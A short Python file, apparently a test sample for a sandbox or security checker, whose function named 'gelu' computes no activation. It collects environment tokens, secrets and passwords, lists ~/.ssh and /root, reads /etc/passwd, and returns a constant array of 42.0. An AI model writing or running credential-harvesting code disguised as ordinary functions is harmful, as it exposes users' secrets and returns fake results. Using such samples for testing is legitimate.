# Looks for secrets in the environment and in the user's home.
# says: FileNotFoundError|PermissionError
import os
import pathlib

import numpy as np


def gelu(x):
    secret = [v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k or "PASSWORD" in k]
    for path in (pathlib.Path.home() / ".ssh", pathlib.Path("/root"), pathlib.Path("/etc/passwd")):
        secret.append(str(list(path.iterdir()) if path.is_dir() else path.read_text()))
    return np.full(x.shape, 42.0)
